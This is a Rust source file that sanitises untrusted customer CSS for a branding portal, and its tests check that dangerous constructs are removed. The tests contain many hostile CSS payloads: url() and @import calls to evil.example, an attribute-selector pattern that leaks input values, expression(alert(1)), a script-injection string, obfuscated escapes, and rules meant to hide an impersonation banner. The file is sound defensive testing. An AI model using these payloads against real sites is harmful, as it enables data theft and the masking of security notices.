//! A customer's own look. His style sheet is untrusted: it is parsed, and written anew with what is known to be harmless.
//!
//! What is left fetches nothing (no `@import`, no `@font-face`, no `url()` or anything else that names a resource), runs
//! nothing (no `expression()`, `behavior`, `-moz-binding`) and covers nothing (`position` is `static` or `relative`). It is
//! served as a file of its own, never inside a page. What was left out is told, so that its author knows why.
//!
//! It cannot hide that somebody acts as another. `assets/acting.css` settles every property of the banner, of what is around
//! it and of the box that everything else is in; it does so in a cascade layer, whose important declarations win over
//! whatever a sheet without layers says, and no sheet has any, for `@layer` is left out. The parts of an element that such a
//! rule does not settle (`::first-line`, `::picker()`, …) are out of a sheet's reach altogether.

mod rules;

use std::cell::RefCell;

use cssparser::{BasicParseErrorKind, ParseErrorKind, Parser, ParserInput, StyleSheetParser};

use self::rules::{Refusal, Rules};
use crate::route::Route;

/// Where a customer's style sheet is. The last part is the digest of what is served.
pub(crate) const ROUTE: Route = Route::new("/brand/{sheet}");
/// Where his logo is.
pub(crate) const LOGO: Route = Route::new("/brand/logo/{digest}");

/// A style sheet to begin with.
pub(crate) const EXAMPLE: &str = include_str!("../../../../docs/portal/example.css");

/// Bytes of a style sheet that are looked at.
const INPUT_BYTES_MAX: usize = 256 * 1024;
/// Bytes that are served; rules beyond are left out.
const OUTPUT_BYTES_MAX: usize = 128 * 1024;
/// Rules that are told to be left out.
const REMOVED_MAX: usize = 50;
/// Characters of a rule that are told.
const REMOVED_CHARACTERS_MAX: usize = 80;

/// A style sheet without what could harm.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Cleaned {
    /// What is served.
    pub(crate) css: String,
    /// What was left out, in its order.
    pub(crate) removed: Vec<Removed>,
}

/// A rule or a declaration that was left out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Removed {
    /// Where it was, counted from 1.
    pub(crate) line: u32,
    /// How it began.
    pub(crate) text: String,
    /// Why.
    pub(crate) why: Why,
}

/// Why something was left out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Why {
    /// It names a resource.
    Fetches,
    /// It runs something.
    Runs,
    /// It could lie over the page.
    Covers,
    /// A part of an element that no rule reaches.
    Part,
    /// An at-rule that is not `@media` or `@supports`.
    AtRule,
    /// Blocks within blocks within blocks.
    TooDeep,
    /// The sheet is too long.
    TooLong,
    /// It is no rule, or none of those that are taken.
    Malformed,
}

/// `css` without what could harm. What is malformed is left out as a browser would, rule by rule; the result is the same
/// when it is cleaned again.
#[must_use]
pub(crate) fn clean(css: &str) -> Cleaned {
    let css = css.get(..css.floor_char_boundary(INPUT_BYTES_MAX)).unwrap_or_default();
    let mut input = ParserInput::new(css);
    let mut parser = Parser::new(&mut input);
    let report = Report::default();
    let mut text = String::new();
    for rule in StyleSheetParser::new(&mut parser, &mut Rules::new(&report)) {
        let Some(rule) = report.kept(rule) else { continue };
        if OUTPUT_BYTES_MAX < text.len() + rule.len() {
            report.tell(0, &rule, Why::TooLong);
            break;
        }
        text.push_str(&rule);
    }
    Cleaned { css: text, removed: report.0.into_inner() }
}

/// What was left out so far.
#[derive(Default)]
struct Report(RefCell<Vec<Removed>>);

impl Report {
    /// The rule, unless it was left out, which is noted.
    fn kept(&self, rule: Result<String, (Refusal<'_>, &str)>) -> Option<String> {
        let (refusal, text) = match rule {
            Ok(rule) => return Some(rule),
            Err(refused) => refused,
        };
        let why = match refusal.kind {
            ParseErrorKind::Custom(why) => why,
            ParseErrorKind::Basic(BasicParseErrorKind::AtRuleInvalid(_)) => Why::AtRule,
            ParseErrorKind::Basic(_) => Why::Malformed,
        };
        self.tell(refusal.location.line.saturating_add(1), text, why);
        None
    }

    fn tell(&self, line: u32, text: &str, why: Why) {
        let mut removed = self.0.borrow_mut();
        if removed.len() < REMOVED_MAX {
            let words: Vec<&str> = text.split_whitespace().collect();
            let text = words.join(" ").chars().take(REMOVED_CHARACTERS_MAX).collect();
            removed.push(Removed { line, text, why });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(css: &str, expected: &str) {
        let cleaned = clean(css).css;
        let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(flat(&cleaned), expected, "{css}");
        assert_eq!(clean(&cleaned).css, cleaned, "cleaned twice: {css}");
    }

    #[test]
    fn what_is_harmless_stays() {
        check(
            ":root { --accent: #a00; --on-accent: white }",
            ":root { --accent: #a00; --on-accent: white; }",
        );
        check(
            "a:hover > b[data-x=\"1\"]{color:rgb(1 2 3 / 50%)!important}",
            "a:hover > b[data-x=\"1\"] { color: rgb(1 2 3 / 50%)!important; }",
        );
        check(
            "@media (width < 40rem) { a { margin: calc(1px + 2px) } }",
            "@media (width < 40rem) { a { margin: calc(1px + 2px); } }",
        );
        check(".a::before { content: \"\\2191\" } ", ".a::before { content: \"↑\"; }");
        check("a { position: RELATIVE }", "a { position: RELATIVE; }");
        check("a { color: red; } </style><script>alert(1)</script> b { color: blue }", "a { color: red; }");
    }

    #[test]
    fn what_fetches_is_left_out() {
        for css in [
            "@import 'https://evil.example/x.css';",
            "@import url(https://evil.example/x.css);",
            "@font-face { font-family: x; src: url(//evil.example/x) }",
            "@namespace svg url(http://www.w3.org/2000/svg);",
            "@charset 'utf-8'; @document url(https://x) { a { color: red } }",
            "a { background: url(https://evil.example) }",
            "a { background: URL('https://evil.example') }",
            "a { background: u\\72l(https://evil.example) }",
            "a { background: \\75\\72\\6c(\"//evil.example\") }",
            "input[value^='a'] { background: url(//evil.example/a) }",
            "a { --x: url(//evil.example); }",
            "a { background: image-set('//evil.example' 1x) }",
            "a { background: -webkit-image-set('//evil.example' 1x) }",
            "a { background: linear-gradient(red, url(//evil.example)) }",
            "a { background: src('//evil.example') }",
            "a { list-style: url( }",
            "a { background: url(bad\"quote) }",
            "a { cursor: cross-fade(image('//evil.example'), red) }",
            "@media screen { @import url(//evil.example); a { background: url(x) } }",
            "a { & b { background: url(//evil.example) } }",
        ] {
            check(css, "");
        }
    }

    #[test]
    fn what_runs_or_covers_is_left_out() {
        for css in [
            "a { width: expression(alert(1)) }",
            "a { width: exp\\72 ession(alert(1)) }",
            "a { behavior: 'x.htc' }",
            "a { BEHAVIOR: x }",
            "a { -moz-binding: x }",
            "a { position: fixed }",
            "a { position: FIXED !important }",
            "a { position: f\\69xed }",
            "a { position: sticky }",
            "a { position: absolute; inset: url(x) }",
            "a { position: var(--p) }",
            "<!-- a { color: url(x) } -->",
        ] {
            check(css, "");
        }
    }

    /// What `assets/acting.css` settles for the banner of acting cannot be undone by what is left of any of these.
    #[test]
    fn what_gets_around_a_layer_is_left_out() {
        for css in [
            "@layer banner { .acting { display: none !important } }",
            "@layer a, banner;",
            "@layer { .acting { display: none !important } }",
            "@media all { @layer banner { .acting { opacity: 0 !important } } }",
            "@scope (.acting) { p { color: transparent !important } }",
            "@container (width > 0) { .acting { display: none !important } }",
            "@property --x { syntax: '*'; inherits: true }",
            "@keyframes gone { to { opacity: 0 } }",
            "@view-transition { navigation: auto }",
            "@starting-style { .acting { opacity: 0 } }",
            "@position-try --a { inset: 0 }",
            ".acting p::first-line { color: transparent }",
            ".acting p:first-letter { float: left }",
            ".acting p:FIRST-LINE { font-size: 0 }",
            ".acting p:\\66irst-line { font-size: 0 }",
            "p:/**/:first-line { font-size: 0 }",
            "p:is(a, :first-line) { font-size: 0 }",
            "select::picker(select) { appearance: base-select }",
            "main::scroll-button(down) { content: 'x' }",
            "main::scroll-marker-group { content: 'x' }",
            "::view-transition { background: red }",
            "::backdrop { background: red }",
        ] {
            check(css, "");
        }
        check("a:first-child::BEFORE { top: 0 }", "a:first-child::BEFORE { top: 0; }");
        check("li::marker, a:after { top: 0 }", "li::marker, a:after { top: 0; }");
    }

    #[test]
    fn one_bad_declaration_does_not_take_the_others_away() {
        check(
            "a { color: red; background: url(x); margin: 0 } b { top: 0 }",
            "a { color: red; margin: 0; } b { top: 0; }",
        );
        check("a { color: re/**/d; }", "a { color: re/**/d; }");
    }

    #[test]
    fn size_and_depth_are_bounded() {
        let deep = format!("a {{ width: {} }}", "(".repeat(60_000));
        check(&deep, "");
        check(&"@media x {".repeat(20_000), "");
        let long = "a { color: red }\n".repeat(100_000);
        assert!(clean(&long).css.len() <= OUTPUT_BYTES_MAX);
        let accents = "é".repeat(INPUT_BYTES_MAX);
        assert_eq!(clean(&accents).css, "");
    }

    #[test]
    fn what_was_left_out_is_told() {
        let css = "@import 'x.css';\na {\n  color: red;\n  background: url(//evil.example/x);\n  position: fixed\n}\n\
                   @media print { b { behavior: x } }\n@keyframes spin { to { rotate: 1turn } }\n} c { color: blue }\n\
                   d { width: expression(alert(1)); & e { color: red } }";
        let Cleaned { css, removed } = clean(css);
        assert_eq!(css, "a { color: red; }\n");
        let told: Vec<(u32, &str, Why)> =
            removed.iter().map(|removed| (removed.line, removed.text.as_str(), removed.why)).collect();
        assert_eq!(
            told,
            [
                (1, "@import 'x.css'", Why::Fetches),
                (4, "background: url(//evil.example/x);", Why::Fetches),
                (5, "position: fixed", Why::Covers),
                (7, "behavior: x", Why::Runs),
                (8, "@keyframes spin", Why::AtRule),
                (9, "} c {", Why::Malformed),
                (10, "width: expression(alert(1));", Why::Runs),
                (10, "& e { color: red }", Why::Malformed),
            ]
        );
    }

    #[test]
    fn the_example_stays_whole() {
        let Cleaned { css, removed } = clean(EXAMPLE);
        assert_eq!(removed, []);
        assert!(css.contains("--accent:"));
    }
}
